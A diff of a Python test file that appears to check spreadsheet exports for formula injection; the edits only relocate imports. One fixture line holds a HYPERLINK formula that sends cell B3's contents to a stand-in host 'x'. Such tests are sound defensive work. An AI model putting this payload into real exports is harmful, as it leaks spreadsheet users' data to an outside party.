@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from core import db
 from core.enums import Rag
-from core.services.spreadsheet_safety import FORMULA_STARTS, safe_cell
+from core.services.records.spreadsheet_safety import FORMULA_STARTS, safe_cell
 from tests.helpers import not_applying_in_dundee
 
 FORMULA = '=HYPERLINK("http://x/?d="&B3,"ok")'
@@ -79,8 +79,8 @@ def test_every_text_field_of_every_export_is_written_inert(app, client_for):
     CSV and workbook, and the rollup's, hold no cell a spreadsheet would run."""
     import json
 
-    from core.services import plans
-    from core.services.plan_transfer import import_plan
+    from core.services.plans import plans
+    from core.services.plans.plan_transfer import import_plan
     from tests.helpers import PK, report
 
     with app.app_context(), db.transaction() as session:
